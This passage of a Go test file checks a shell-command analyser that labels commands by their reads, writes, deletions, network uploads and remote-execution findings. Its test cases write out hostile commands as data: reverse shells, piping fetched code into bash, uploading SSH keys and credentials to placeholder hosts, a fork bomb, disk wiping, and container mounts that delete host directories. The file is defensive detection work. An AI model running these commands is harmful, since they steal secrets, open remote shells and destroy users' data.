	{"wipefs /dev/sda", []string{"!tag fs.format"}},
	{"fdisk /dev/sda", []string{"tag fs.format"}},
	{"fdisk -l", []string{"!tag fs.format"}},
	{"sfdisk /dev/sda < layout", []string{"tag fs.format"}},
	{"parted /dev/sda mklabel gpt", []string{"tag fs.format"}},
	{"parted -l", []string{"!tag fs.format"}},
	{"sgdisk --zap-all /dev/sda", []string{"tag fs.format"}},
	{"blkdiscard /dev/nvme0n1", []string{"tag fs.format"}},

	// readers
	{"cat ~/.ssh/id_rsa", []string{"read /home/u/.ssh/id_rsa"}},
	{"cat .env", []string{"read /home/u/proj/.env"}},
	{"less /var/log/syslog", []string{"read /var/log/syslog"}},
	{"head -n 5 /etc/shadow", []string{"read /etc/shadow", "!read /home/u/proj/5"}},
	{"tail -f -n 100 app.log", []string{"read /home/u/proj/app.log"}},
	{"head -5 file", []string{"read /home/u/proj/file", "!read /home/u/proj/-5"}},
	{"grep -r password /etc", []string{"read:r /etc", "!read /home/u/proj/password"}},
	{"grep -e foo -e bar file", []string{"read /home/u/proj/file"}},
	{"grep -f patterns.txt data.txt", []string{"read /home/u/proj/patterns.txt", "read /home/u/proj/data.txt"}},
	{"grep -rn TODO", []string{"read:r /home/u/proj"}},
	{"rg secret ~/.aws", []string{"read:r /home/u/.aws"}},
	{"rg -t go foo", []string{"read:r /home/u/proj"}},
	{"wc -l *.go", []string{"read /home/u/proj"}},
	{"sort -o out.txt in.txt", []string{"write /home/u/proj/out.txt", "read /home/u/proj/in.txt"}},
	{"diff -r a b", []string{"read:r /home/u/proj/a", "read:r /home/u/proj/b"}},
	{"sha256sum file.tar", []string{"read /home/u/proj/file.tar"}},
	{"md5sum /etc/passwd", []string{"read /etc/passwd"}},
	{"base64 ~/.ssh/id_rsa", []string{"read /home/u/.ssh/id_rsa"}},
	{"xxd /bin/ls", []string{"read /bin/ls"}},
	{"jq '.a' data.json", []string{"read /home/u/proj/data.json", "!read /home/u/proj/.a"}},
	{"jq --arg k v '.a' data.json", []string{"read /home/u/proj/data.json", "!read /home/u/proj/v"}},
	{"yq '.a' cfg.yaml", []string{"read /home/u/proj/cfg.yaml"}},
	{"yq -i '.a = 1' cfg.yaml", []string{"write /home/u/proj/cfg.yaml"}},
	{"awk '{print $1}' /etc/passwd", []string{"read /etc/passwd", "!read /home/u/proj/{print $1}"}},
	{"awk -F: -v x=1 '{print}' f", []string{"read /home/u/proj/f"}},
	{"awk -f prog.awk data", []string{"read /home/u/proj/prog.awk", "read /home/u/proj/data"}},
	{"source ~/.bashrc", []string{"read /home/u/.bashrc", "exec /home/u/.bashrc"}},
	{". ./env.sh", []string{"exec /home/u/proj/env.sh"}},
	{"source venv/bin/activate", []string{"exec /home/u/proj/venv/bin/activate"}},
	{"tar czf out.tgz src", []string{"write /home/u/proj/out.tgz", "read:r /home/u/proj/src"}},
	{"tar -xzf a.tgz -C /", []string{"read /home/u/proj/a.tgz", "write:r /"}},
	{"tar tf a.tar", []string{"read /home/u/proj/a.tar", "!write"}},
	{"unzip a.zip -d /opt", []string{"write:r /opt"}},
	{"zip -r out.zip ~/.ssh", []string{"read:r /home/u/.ssh", "write /home/u/proj/out.zip"}},
	{"ls -la", []string{"cmd ls", "!write", "!delete"}},
	{"ls /etc", []string{"read /etc"}},
	{"./run.sh", []string{"exec /home/u/proj/run.sh"}},
	{"/usr/bin/ls", []string{"cmd ls", "!exec"}},

	// network
	{"curl https://example.com", []string{"net https://example.com", "!write"}},
	{"curl -o out.html https://example.com", []string{"write /home/u/proj/out.html"}},
	{"curl -O https://x.com/a/file.tar.gz", []string{"write /home/u/proj/file.tar.gz"}},
	{"curl -sSL --output /tmp/x https://x", []string{"write /tmp/x"}},
	{"curl -F f=@~/.aws/credentials https://x", []string{"read /home/u/.aws/credentials", "tag network.upload"}},
	{"curl -F 'file=@/etc/passwd;type=text/plain' https://x", []string{"read /etc/passwd"}},
	{"curl -d @.env https://x", []string{"read /home/u/proj/.env", "tag network.upload"}},
	{"curl --data-binary @secret.key https://x", []string{"read /home/u/proj/secret.key"}},
	{"curl -d 'a=1' https://x", []string{"!read", "!tag network.upload"}},
	{"curl -T ~/.ssh/id_rsa ftp://x", []string{"read /home/u/.ssh/id_rsa", "tag network.upload"}},
	{"curl --upload-file db.sql https://x", []string{"read /home/u/proj/db.sql"}},
	{"curl -X POST -H 'Content-Type: json' https://api", []string{"net https://api", "!read"}},
	{"wget https://x.com/f.sh", []string{"net https://x.com/f.sh", "write /home/u/proj/f.sh"}},
	{"wget -O /usr/bin/x https://x", []string{"write /usr/bin/x"}},
	{"wget -qO- https://x", []string{"!write"}},
	{"wget --post-file=/etc/shadow http://x", []string{"read /etc/shadow", "tag network.upload"}},
	{"scp ~/.ssh/id_rsa host:/tmp/", []string{"read /home/u/.ssh/id_rsa", "net host", "tag network.upload"}},
	{"scp host:/etc/passwd ./", []string{"net host", "write /home/u/proj"}},
	{"scp -r -P 22 dir user@h:~", []string{"read:r /home/u/proj/dir", "net user@h"}},
	{"nc -e /bin/sh 1.2.3.4 4444", []string{"finding remote-exec"}},
	{"nc example.com 80 < /etc/passwd", []string{"read /etc/passwd", "net example.com"}},
	{"socat TCP:1.2.3.4:4444 EXEC:/bin/bash", []string{"finding remote-exec"}},
	{"telnet host 23", []string{"net host"}},

	// remote code execution
	{"curl -fsSL https://x.sh | bash", []string{"tag remote-exec", "finding remote-exec"}},
	{"curl -s https://x | sh", []string{"finding remote-exec"}},
	{"wget -qO- https://x | sh", []string{"finding remote-exec"}},
	{"wget -O - https://x | bash -s -- --yes", []string{"finding remote-exec"}},
	{"curl https://x | sudo bash", []string{"finding remote-exec", "tag privilege"}},
	{"curl https://x | sudo -E bash -", []string{"finding remote-exec"}},
	{"curl https://x | tee x | sh", []string{"finding remote-exec"}},
	{"curl https://x | python3", []string{"finding remote-exec"}},
	{"curl https://x | python3 -", []string{"finding remote-exec"}},
	{"curl https://x | node", []string{"finding remote-exec"}},
	{"curl https://x | perl", []string{"finding remote-exec"}},
	{"curl https://x | ruby", []string{"finding remote-exec"}},
	{"curl -s https://x | base64 -d | bash", []string{"finding remote-exec"}},
	{"bash <(curl -s https://x)", []string{"finding remote-exec"}},
	{"bash <(wget -qO- x)", []string{"finding remote-exec"}},
	{"source <(curl -s https://x)", []string{"finding remote-exec"}},
	{". <(curl -s https://x)", []string{"finding remote-exec"}},
	{"python3 <(curl -s https://x)", []string{"finding remote-exec"}},
	{"bash < <(curl -s https://x)", []string{"finding remote-exec"}},
	{"curl -o x.sh https://x && bash x.sh", []string{"finding remote-exec"}},
	{"wget https://x/install.sh && sh install.sh", []string{"finding remote-exec"}},
	{"curl -o i.sh https://x; chmod +x i.sh; ./i.sh", []string{"finding remote-exec"}},
	{"node -e \"$(curl -s https://x)\"", []string{"finding remote-exec"}},
	{"python3 -c \"$(curl -s https://x)\"", []string{"finding remote-exec"}},
	{"deno run https://x/mod.ts", []string{"finding remote-exec"}},
	{"curl https://x | jq .", []string{"!finding"}},
	{"curl https://x | grep foo", []string{"!finding"}},
	{"curl -o f.tgz https://x && tar xzf f.tgz", []string{"!finding"}},
	{"cat script.sh | bash", []string{"!finding remote-exec"}},
	{"X=$(curl -s https://x); eval \"$X\"", []string{"finding remote-exec"}},
	{"curl https://x | xargs -I{} sh -c '{}'", []string{"finding remote-exec"}},

	// git
	{"git push --force origin main", []string{"tag git.push.force", "attr remote=origin", "attr branch=main"}},
	{"git push -f", []string{"tag git.push.force", "attr branch="}},
	{"git push origin +main", []string{"tag git.push.force", "attr branch=main"}},
	{"git push --force-with-lease origin feature", []string{"tag git.push.force", "attr branch=feature", "attr lease=true"}},
	{"git push origin HEAD:refs/heads/main --force", []string{"tag git.push.force", "attr branch=main"}},
	{"git push -f origin a b", []string{"attr branch=a,b"}},
	{"git push --mirror", []string{"tag git.push.force"}},
	{"git push origin main", []string{"!tag git.push.force", "net origin"}},
	{"git push -u origin feature", []string{"!tag git.push.force"}},
	{"git push origin :main", []string{"tag git.history", "attr delete=main"}},

	// the current branch, tracked through checkout and switch
	{"git checkout main && git push --force", []string{"attr branch=main", "attr current-branch=true"}},
	{"git switch main; git push -f origin", []string{"attr branch=main"}},
	{"git checkout -b feat && git push -f origin HEAD", []string{"attr branch=feat"}},
	{"git switch -c feat origin/main && git push -f", []string{"attr branch=feat"}},
	{"git checkout -B fix main && git push -f", []string{"attr branch=fix"}},
	{"git checkout --track origin/release/2 && git push -f", []string{"attr branch=release/2"}},
	{"git branch -M main && git push -f", []string{"attr branch=main"}},
	{"git checkout main -- a.txt && git push -f", []string{"attr branch="}},
	{"git checkout main a.txt && git push -f", []string{"attr branch="}},
	{"git checkout main || true; git push -f", []string{"attr branch="}},
	{"git checkout main || exit 1; git push -f", []string{"attr branch=main"}},
	{"git checkout \"$B\" && git push -f", []string{"attr branch="}},
	{"git checkout - && git push -f", []string{"attr branch="}},
	{"git checkout --detach main && git push -f", []string{"attr branch="}},
	{"git checkout main && cd ../other && git push -f", []string{"attr branch="}},
	{"git checkout main && cd sub && git push -f", []string{"attr branch=main"}},
	{"(git checkout main) && git push -f", []string{"attr branch="}},
	{"git -C ../lib checkout main && git -C ../lib push -f", []string{"attr branch=main"}},
	{"git -C ../lib checkout main && git push -f", []string{"attr branch="}},
	{"git checkout main && git push -f origin feat", []string{"attr branch=feat"}},
	{"git checkout main && git push -f --all", []string{"attr branch="}},
	{"git push origin --delete feature", []string{"tag git.history", "attr delete=feature"}},
	{"git -C /other push -f origin main", []string{"tag git.push.force", "dir git /other"}},
	{"git -c user.name=x push -f origin main", []string{"tag git.push.force"}},
	{"git push -f origin $BRANCH", []string{"tag git.push.force", "attr branch-unknown=true"}},
	{"git reset --hard HEAD~3", []string{"tag git.reset.hard"}},
	{"git reset --soft HEAD~1", []string{"!tag git.reset.hard"}},
	{"git reset HEAD file", []string{"!tag git.reset.hard"}},
	{"git clean -fdx", []string{"tag git.clean", "attr ignored=true", "attr dirs=true"}},
	{"git clean -n", []string{"!tag git.clean"}},
	{"git clean -fd", []string{"tag git.clean", "delete:r /home/u/proj"}},
	{"git rm --cached x", []string{"!delete"}},
	{"git rm -r --cached .", []string{"!delete"}},
	{"git rm x", []string{"delete /home/u/proj/x"}},
	{"git rm -rf dir", []string{"delete:r /home/u/proj/dir"}},
	{"git checkout -- .", []string{"write:r /home/u/proj"}},
	{"git checkout -b feature", []string{"!write"}},
	{"git restore src/", []string{"write:r /home/u/proj/src"}},
	{"git restore --staged f", []string{"!write"}},
	{"git filter-branch --tree-filter x HEAD", []string{"tag git.history"}},
	{"git filter-repo --path x", []string{"tag git.history"}},
	{"git rebase -i HEAD~3", []string{"tag git.history"}},
	{"git rebase --continue", []string{"!tag git.history"}},
	{"git commit --amend --no-edit", []string{"tag git.history"}},
	{"git commit -am 'msg'", []string{"!tag git.history"}},
	{"git update-ref -d refs/heads/x", []string{"tag git.history"}},
	{"git branch -D old", []string{"tag git.history", "attr branch=old"}},
	{"git branch -d merged", []string{"!tag git.history"}},
	{"git branch new", []string{"!tag git.history"}},
	{"git reflog expire --expire=now --all", []string{"tag git.history"}},
	{"git gc --prune=now", []string{"tag git.history"}},
	{"git config core.hooksPath /tmp/h", []string{"write /home/u/proj/.git/config"}},
	{"git config --global user.email x", []string{"write /home/u/.gitconfig"}},
	{"git config --get user.name", []string{"!write"}},
	{"git config user.name", []string{"!write"}},
	{"git clone https://github.com/a/b.git", []string{"net https://github.com/a/b.git", "write:r /home/u/proj/b"}},
	{"git status && git diff", []string{"!write", "!delete"}},
	{"git log --oneline | head", []string{"!write"}},

	// publishing and packages
	{"npm publish", []string{"tag publish"}},
	{"npm publish --access public", []string{"tag publish"}},
	{"yarn publish", []string{"tag publish"}},
	{"pnpm publish", []string{"tag publish"}},
	{"bun publish", []string{"tag publish"}},
	{"cargo publish", []string{"tag publish"}},
	{"twine upload dist/*", []string{"tag publish"}},
	{"gem push x.gem", []string{"tag publish"}},
	{"poetry publish --build", []string{"tag publish"}},
	{"gh release create v1.0", []string{"tag publish"}},
	{"docker push img:latest", []string{"tag publish"}},
	{"npm install", []string{"!tag publish", "tag package.install"}},
	{"npm run build", []string{"!tag publish", "exec"}},
	{"pip install requests", []string{"tag package.install", "net pypi.org"}},
	{"pip install -r requirements.txt", []string{"read /home/u/proj/requirements.txt"}},
	{"sudo apt-get install -y curl", []string{"tag package.install", "tag privilege"}},
	{"go test ./...", []string{"!tag publish", "!delete"}},
	{"cargo build --release", []string{"!tag publish"}},
	{"make test", []string{"cmd make", "!write"}},
	{"docker run --rm -it ubuntu bash", []string{"cmd docker", "via bash docker run", "!write", "!delete"}},
	{"docker run --privileged ubuntu", []string{"tag privilege", "tag container.host"}},

	// containers: a bind mount makes the host path SRC reachable as DST
	{"docker run --rm -v /:/host alpine rm -rf /host/etc", []string{"via rm docker run", "delete:r /etc", "!delete:r /host/etc", "!tag container.host"}},
	{"podman run --rm --volume=/etc:/x alpine rm -f /x/hosts", []string{"delete /etc/hosts"}},
	{"docker run --rm --mount type=bind,source=/,target=/host alpine rm -rf /host/usr", []string{"delete:r /usr"}},
	{"docker run --rm --mount type=bind,src=/etc,dst=/x,readonly alpine rm -rf /x", []string{"!delete"}},
	{"docker run --rm --mount type=volume,source=data,target=/x alpine rm -rf /x", []string{"!delete"}},
	{"docker run --rm -v /etc:/x:ro alpine sh -c 'echo y >> /x/hosts; cat /x/hosts'", []string{"!write", "read /etc/hosts"}},
	{"docker run --rm -v \"$HOME\":/h alpine rm -rf /h/.config", []string{"delete:r /home/u/.config"}},
	{"docker run --rm -v ~/:/h -w /h alpine rm -rf .ssh", []string{"delete:r /home/u/.ssh", "dir rm /home/u"}},
	{"docker run --rm -v /:/host alpine sh -c 'cd /host && rm -rf etc'", []string{"delete:r /etc"}},
	{"docker run --rm -v /:/host alpine rm -rf /", []string{"delete:r /"}},
	{"docker run --rm -v /home/u:/data alpine rm -rf /", []string{"delete:r /home/u", "!delete:r /"}},
	{"docker run --rm -v /:/host alpine chroot /host rm -rf /var/lib", []string{"delete:r /var/lib"}},
	{"docker run --rm alpine rm -rf /etc", []string{"cmd rm", "!delete"}},
	{"docker run --rm alpine sh -c 'rm -rf $HOME ~ .'", []string{"!delete"}},
	{"docker run --rm -v /home/u:/root alpine sh -c 'rm -rf ~/x'", []string{"delete:r /home/u/x"}},
	{"docker run --rm -e HOME=/h -v /home/u:/h alpine sh -c 'rm -rf ~/x'", []string{"delete:r /home/u/x"}},
	{"docker run --rm -e T=/host/etc -v /:/host alpine sh -c 'rm -rf $T'", []string{"delete:r /etc"}},
	{"docker run --rm -v .:/app -w /app alpine rm -rf build", []string{"delete:r /home/u/proj/build"}},
	{"docker run --rm -v .:/app alpine rm -rf build", []string{"delete:r ?"}},
	{"docker run --rm -v \"$X\":/data alpine rm -rf /data/c", []string{"delete:r ?"}},
	{"docker run --rm -v \"$X\":/data alpine ls /data", []string{"!delete", "!write"}},
	{"docker run --rm -v /:/host alpine", []string{"write:r /"}},
	{"docker run --rm -v /etc:/x:ro -v pgdata:/var/lib/pg myimage --serve", []string{"read:r /etc", "!write"}},
	{"docker run -d -v /:/host alpine sleep infinity", []string{"write:r /"}},
	{"docker run --rm -i -v /:/host alpine sh", []string{"write:r /"}},
	{"docker run --rm -v /:/host alpine sh", []string{"!write"}},
	{"echo 'rm -rf /host/etc' | docker run -i --rm -v /:/host alpine sh", []string{"delete:r /etc", "!write"}},
	{"echo 'rm -rf /host/etc' | docker run --rm -v /:/host alpine sh", []string{"!delete"}},
	{"docker run --rm -v /:/host --entrypoint rm alpine -rf /host/etc", []string{"delete:r /etc"}},
	{"docker run --rm -v /:/host alpine \"$CMD\"", []string{"write:r /", "dynamic"}},
	{"docker run --rm -v /var/run/docker.sock:/var/run/docker.sock docker:cli docker ps", []string{"tag container.host", "!write"}},
	{"docker run --rm --pid=host alpine kill 1", []string{"tag container.host"}},
	{"docker run --rm --cap-add=CAP_SYS_ADMIN alpine true", []string{"tag container.host"}},
	{"docker run --rm --net=host alpine true", []string{"tag privilege", "!tag container.host"}},
	{"docker run --rm --privileged alpine dd if=/dev/zero of=/dev/sda", []string{"write /dev/sda", "tag disk.write"}},
	{"docker run --rm --device /dev/sdb:/dev/xvda alpine dd if=/dev/zero of=/dev/xvda", []string{"write /dev/sdb", "tag disk.write"}},
	{"docker run --rm alpine dd if=/dev/zero of=/dev/sda", []string{"!write", "!tag disk.write"}},
	{"docker container create -v /etc:/x alpine rm -rf /x", []string{"delete:r /etc"}},
	{"docker exec app rm -rf /srv/x", []string{"delete:r ?"}},
	{"docker exec -it db psql -c 'select 1'", []string{"cmd psql", "!delete", "!write"}},
	{"docker compose run --rm -v /:/host web rm -rf /host/etc", []string{"delete:r /etc"}},
	{"docker-compose -f dc.yml run --rm web npm test", []string{"via npm docker-compose run", "!write"}},
	{"docker compose exec web sh -c 'rm -rf /'", []string{"delete:r ?"}},
	{"docker run --rm -v /:/host alpine sh -c 'cat /host/etc/shadow'", []string{"read /etc/shadow"}},
	{"kubectl delete ns prod", []string{"tag remote.delete"}},
	{"kubectl get pods", []string{"!tag remote.delete"}},
	{"terraform destroy -auto-approve", []string{"tag remote.delete"}},
	{"terraform plan", []string{"!tag remote.delete"}},
	{"aws s3 rm s3://b --recursive", []string{"tag remote.delete"}},
	{"aws s3 cp ~/.aws/credentials s3://b/", []string{"read:r /home/u/.aws/credentials", "tag network.upload"}},
	{"helm uninstall app", []string{"tag remote.delete"}},
	{"gh repo delete o/r --yes", []string{"tag remote.delete"}},

	// system
	{"shutdown -h now", []string{"tag system.power"}},
	{"reboot", []string{"tag system.power"}},
	{"sudo systemctl poweroff", []string{"tag system.power"}},
	{"systemctl restart nginx", []string{"!tag system.power"}},
	{"crontab -r", []string{"tag crontab", "attr action=remove"}},
	{"crontab -l", []string{"!tag crontab"}},
	{":(){ :|:& };:", []string{"finding fork-bomb", "tag fork-bomb"}},
	{"bomb() { bomb | bomb & }; bomb", []string{"finding fork-bomb"}},
	{"f() { echo hi; }; f", []string{"!finding"}},
	{"kill -9 1234", []string{"cmd kill", "!delete"}},
	{"pkill -f node", []string{"cmd pkill"}},
	{"mount /dev/sdb1 /mnt", []string{"tag fs.mount"}},
	{"iptables -F", []string{"tag network.firewall"}},
	{"useradd evil", []string{"tag user.admin"}},
	{"passwd root", []string{"tag user.admin"}},
	{"sudo su", []string{"tag privilege", "cmd su"}},

	// unknown programs
	{"myprog /etc/passwd", []string{"cmd myprog", "!write", "!delete", "read /etc/passwd"}},
	{"openssl rsa -in ~/.ssh/id_rsa -noout", []string{"read /home/u/.ssh/id_rsa"}},
	{"mytool --config=conf/app.yaml build", []string{"read /home/u/proj/conf/app.yaml"}},
	{"mytool $UNSET https://x.y/z host:path", []string{"!read", "!delete"}},
	{"myprog > out", []string{"write /home/u/proj/out"}},
	{"./configure --prefix=/usr", []string{"exec /home/u/proj/configure", "!write"}},

	// parse errors
	{"echo 'unterminated", []string{"err"}},
	{"ls &&", []string{"err"}},
	{"echo $(", []string{"err"}},
	{"rm -rf ( /", []string{"err"}},
}

func TestAnalyze(t *testing.T) {
	if len(cases) < 200 {
		t.Fatalf("only %d cases", len(cases))
	}
	for _, tc := range cases {
		t.Run(tc.in, func(t *testing.T) {
			a, err := Analyze(tc.in, testOpts)
			wantErr := len(tc.want) == 1 && tc.want[0] == "err"
			if wantErr {
				if err == nil {
					t.Fatalf("want a parse error, got %s", dump(a))
				}
				return
			}
			if err != nil {
				t.Fatalf("Analyze: %v", err)
			}
			for _, w := range tc.want {
				if msg := check(a, w); msg != "" {
					t.Errorf("%s: %s\n%s", w, msg, dump(a))
				}
			}
		})
	}
}

func dump(a *Analysis) string {
	if a == nil {
		return "<nil>"
	}
	var b strings.Builder
	for _, c := range a.Commands {
		fmt.Fprintf(&b, "  cmd %q argv=%q dir=%q via=%q tags=%v attrs=%v dyn=%v\n", c.Name, c.Argv, c.Dir, c.Via, c.Tags, c.Attrs, c.Dynamic)
		for _, e := range c.Effects {
			fmt.Fprintf(&b, "    %s %q unknown=%v rec=%v (%s)\n", e.Kind, e.Target, e.Unknown, e.Recursive, e.Reason)
		}
	}
	for _, f := range a.Findings {
		fmt.Fprintf(&b, "  finding %s: %s\n", f.Tag, f.Reason)
	}
	return b.String()
}

var kinds = map[string]Kind{"delete": Delete, "write": Write, "read": Read, "exec": Exec, "net": Network, "priv": Privilege}

// expectAll analyses in with testOpts and reports each expectation of
// want (check's notation) that the analysis does not meet.
func expectAll(t *testing.T, in string, want []string) {
	t.Helper()
	a, err := Analyze(in, testOpts)
	if err != nil {
		t.Fatalf("%s: %v", in, err)
	}
	for _, w := range want {
		if msg := check(a, w); msg != "" {
			t.Errorf("%s: %s: %s\n%s", in, w, msg, dump(a))
		}
	}
}

func check(a *Analysis, w string) string {
	neg := strings.HasPrefix(w, "!")
	w = strings.TrimPrefix(w, "!")
	verb, arg, _ := strings.Cut(w, " ")
	found := false
	switch verb {
	case "cmd":
		for _, c := range a.Commands {
			found = found || c.Name == arg
		}
	case "argv":
		for _, c := range a.Commands {
			found = found || strings.Join(c.Argv, " ") == arg
		}
	case "tag":
		for _, c := range a.Commands {
			for _, t := range c.Tags {
				found = found || t == arg
			}
		}
	case "finding":
		for _, f := range a.Findings {
			found = found || arg == "" || f.Tag == arg
		}
	case "attr":
		k, v, _ := strings.Cut(arg, "=")
		for _, c := range a.Commands {
			if x, ok := c.Attrs[k]; ok && x == v {
				found = true
			}
		}
	case "via":
		name, via, _ := strings.Cut(arg, " ")
		for _, c := range a.Commands {
			found = found || c.Name == name && strings.Join(c.Via, ">") == via
		}
	case "dir":
		name, dir, _ := strings.Cut(arg, " ")
		for _, c := range a.Commands {
			found = found || c.Name == name && c.Dir == dir
		}
	case "dynamic":
		for _, c := range a.Commands {
			found = found || c.Dynamic
		}
	case "ncmd":
		found = fmt.Sprint(len(a.Commands)) == arg
	default:
		kname, rec := strings.CutSuffix(verb, ":r")
		kind, ok := kinds[kname]
		if !ok {
			return "bad expectation"
		}
		for _, c := range a.Commands {
			for _, e := range c.Effects {
				if e.Kind != kind {
					continue
				}
				if rec && !e.Recursive {
					continue
				}
				switch {
				case arg == "":
					found = true
				case arg == "?":
					found = found || e.Unknown
				default:
					found = found || (!e.Unknown && e.Target == arg)
				}
			}
		}
	}
	if found == neg {
		if neg {
			return "unexpectedly present"
		}
		return "missing"
	}
	return ""
}

func TestSpans(t *testing.T) {
	src := "ls; sudo rm -rf /x && bash -c 'rm -rf /y'"
	a, err := Analyze(src, testOpts)
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range a.Commands {
		if c.Span.Start < 0 || c.Span.End > len(src) || c.Span.Start > c.Span.End {
			t.Fatalf("bad span %+v", c.Span)
		}
		switch {
		case c.Name == "ls":
			if c.Span.Text != "ls" || src[c.Span.Start:c.Span.End] != "ls" {
				t.Errorf("ls span %+v", c.Span)
			}
		case c.Name == "rm" && len(c.Via) == 1 && c.Via[0] == "sudo":
			if c.Span.Text != "rm -rf /x" || src[c.Span.Start:c.Span.End] != "rm -rf /x" {
				t.Errorf("sudo rm span %+v", c.Span)
			}
		case c.Name == "rm":
			if c.Span.Text != "rm -rf /y" || src[c.Span.Start:c.Span.End] != "bash -c 'rm -rf /y'" {
				t.Errorf("nested rm span %+v", c.Span)
			}
		}
	}
	if len(a.Findings) != 0 {
		t.Errorf("unexpected findings %v", a.Findings)
	}
}

func TestDepthLimit(t *testing.T) {
	code := "rm -rf /deep"
	for i := 0; i < MaxDepth+3; i++ {
		q, err := quoteSingle(code)
		if err != nil {
			t.Fatal(err)
		}
		code = "bash -c " + q
	}
	a, err := Analyze(code, testOpts)
	if err != nil {
		t.Fatal(err)
	}
	if check(a, "finding dynamic-exec") != "" {
		t.Errorf("over-deep nesting not reported:\n%s", dump(a))
	}
	if check(a, "delete:r /deep") == "" {
		t.Errorf("over-deep nesting analysed anyway")
	}
}

func quoteSingle(s string) (string, error) {
	return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'", nil
}

func TestCommandCap(t *testing.T) {
	src := strings.Repeat("ls;", MaxCommands+10)
	a, err := Analyze(src, testOpts)
	if err != nil {
		t.Fatal(err)
	}
	if len(a.Commands) > MaxCommands {
		t.Fatalf("%d commands", len(a.Commands))
	}
	if check(a, "finding dynamic-exec") != "" {
		t.Error("cap not reported")
	}
}

func TestUnknownCwd(t *testing.T) {
	a, err := Analyze("rm -rf build; rm -rf /abs", Options{})
	if err != nil {
		t.Fatal(err)
	}
	if check(a, "delete:r ?") != "" || check(a, "delete:r /abs") != "" {
		t.Errorf("unexpected:\n%s", dump(a))
	}
}

func TestPure(t *testing.T) {
	// the same input twice gives the same result: no hidden state
	for _, tc := range cases[:50] {
		a1, err1 := Analyze(tc.in, testOpts)
		a2, err2 := Analyze(tc.in, testOpts)
		if (err1 == nil) != (err2 == nil) || dump(a1) != dump(a2) {
			t.Errorf("%q: results differ", tc.in)
		}
	}
}

func TestInlineCodeBounds(t *testing.T) {
	long := `python3 -c "` + strings.Repeat("print('a');", maxInlineLiterals+1) + `"`
	a, err := Analyze(long, testOpts)
	if err != nil {
		t.Fatal(err)
	}
	if msg := check(a, "finding dynamic-exec"); msg != "" {
		t.Fatalf("%s\n%s", msg, dump(a))
	}
}
